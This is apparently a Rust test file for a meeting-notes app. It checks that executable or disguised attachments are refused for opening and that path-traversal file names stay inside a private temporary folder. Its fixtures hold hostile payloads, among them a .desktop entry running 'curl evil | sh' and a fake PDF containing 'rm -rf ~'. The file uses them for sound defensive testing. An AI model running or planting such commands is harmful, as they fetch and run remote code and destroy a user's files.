//! Attachments from other machines are opened only from a private temporary folder (0700,
//! removed on exit), and anything that could run code (`x.exe`, `x.desktop`, a script with
//! another name) is never handed to the system's opener: it is offered for saving, with a
//! warning, in the real app. (Unix: the test reads file modes.)
#![cfg(unix)]

mod common;

use std::os::unix::fs::PermissionsExt;

use egui_kittest::kittest::Queryable;
use motebok::app::Command;
use motebok::app::agenda::{AgendaCommand, OpenRefused, prepare_attachment_for_opening};
use motebok::model::SaveOnly;

/// The private folder is one per process: tests that make or remove it take turns.
static TEMP: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn mode(path: &std::path::Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

fn entries(dir: &std::path::Path) -> usize {
    std::fs::read_dir(dir).map_or(0, Iterator::count)
}

#[test]
fn programs_are_never_written_out_for_opening_and_documents_go_to_a_private_folder() {
    let _turn = TEMP
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    let root = motebok::files::private_temp_dir().unwrap();
    assert_eq!(mode(&root), 0o700, "the temporary folder is private");
    assert!(root.starts_with(std::env::temp_dir()));

    for (name, bytes) in [
        ("x.exe", &b"MZ\x90\0"[..]),
        (
            "x.desktop",
            b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n",
        ),
        ("x.DESKTOP", b"[Desktop Entry]\n"),
        ("Rapport.pdf.exe", b"%PDF-1.7"),
        ("x.sh", b"#!/bin/sh\n"),
        ("x.jar", b"PK"),
        ("x.lnk", b"L\0\0\0"),
        ("README", b"no extension"),
        ("rapport.pdf", b"#!/bin/sh\nrm -rf ~\n"),
        ("bilde.png", b"\x7fELF\x02\x01"),
        ("notat.txt", b"junk\n[Desktop Entry]\nExec=x\n"),
    ] {
        let before = entries(&root);
        match prepare_attachment_for_opening(name, bytes) {
            Err(OpenRefused::SaveOnly(why)) => {
                assert!(!why.reason(true).is_empty() && !why.reason(false).is_empty());
            }
            other => panic!("{name} would be opened: {other:?}"),
        }
        assert_eq!(entries(&root), before, "{name}: nothing written");
    }

    let pdf = b"%PDF-1.7\n%\xe6\xf8\xe5\n";
    let path = prepare_attachment_for_opening("Årsrapport.pdf", pdf).unwrap();
    assert_eq!(std::fs::read(&path).unwrap(), pdf);
    assert!(path.starts_with(&root));
    assert_eq!(path.file_name().unwrap(), "Årsrapport.pdf");
    assert_eq!(mode(&path), 0o600, "only the user reads the file");
    assert_eq!(mode(path.parent().unwrap()), 0o700);
    // The same name again lands in a folder of its own: nothing is overwritten or shared.
    let again = prepare_attachment_for_opening("Årsrapport.pdf", b"%PDF-2").unwrap();
    assert_ne!(again, path);
    assert_eq!(std::fs::read(&path).unwrap(), pdf);

    // Closing the window removes the folder and everything in it.
    assert_eq!(
        motebok::files::remove_private_temp_dir(),
        Some(root.clone())
    );
    assert!(!root.exists());
    assert!(!path.exists());
    // A new one is made (with a new name) when needed again.
    let next = motebok::files::private_temp_dir().unwrap();
    assert_ne!(next, root);
    assert_eq!(mode(&next), 0o700);
    motebok::files::remove_private_temp_dir();
}

#[test]
fn hostile_names_of_stored_attachments_stay_in_the_private_folder() {
    let _turn = TEMP
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    let root = motebok::files::private_temp_dir().unwrap();
    for name in [
        "../../x.pdf",
        "/tmp/x.pdf",
        "C:\\x.pdf",
        "\\\\srv\\s\\x.pdf",
    ] {
        let path = prepare_attachment_for_opening(name, b"%PDF-1.7").unwrap();
        assert!(path.starts_with(&root), "{name} -> {}", path.display());
        assert_eq!(path.parent().unwrap().parent().unwrap(), root);
    }
    motebok::files::remove_private_temp_dir();
    assert!(!root.exists());
}

#[test]
fn an_executable_attachment_is_offered_for_saving_in_the_app_not_opened() {
    let (mut h, _db) = common::app_harness_at();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("x.desktop");
    std::fs::write(&file, "[Desktop Entry]\nType=Application\nExec=sh -c id\n").unwrap();
    h.state_mut()
        .core
        .run(vec![Command::Agenda(AgendaCommand::AttachFiles {
            item: 1,
            paths: vec![file],
        })]);
    common::settle(&mut h);
    let attachment =
        h.state().core.open.as_ref().unwrap().record.meeting.items[0].attachments[0].clone();
    assert_eq!(attachment.name, "x.desktop");

    h.state_mut()
        .core
        .run(vec![Command::Agenda(AgendaCommand::OpenAttachment(
            attachment.clone(),
        ))]);
    common::settle(&mut h);
    let offer = h
        .state()
        .core
        .agenda
        .save_instead
        .clone()
        .expect("offered for saving");
    assert_eq!(offer.attachment, attachment);
    assert!(offer.reason_nb.contains(".desktop"), "{}", offer.reason_nb);
    assert!(
        offer.reason_en.contains("run a program"),
        "{}",
        offer.reason_en
    );
    assert!(
        h.state()
            .core
            .notices
            .iter()
            .all(|n| n.title != "Vedlegget er åpnet"),
        "nothing was opened"
    );
    h.run_steps(2);
    h.get_by_label("Vedlegget åpnes ikke");
    h.get_by_label("Lagre i mappe …");
    h.get_by_label("Avbryt").click();
    h.run_steps(2);
    assert!(h.state().core.agenda.save_instead.is_none());
    assert_eq!(
        motebok::model::open_policy("x.desktop", b""),
        Err(SaveOnly::Executable("desktop".into()))
    );
}
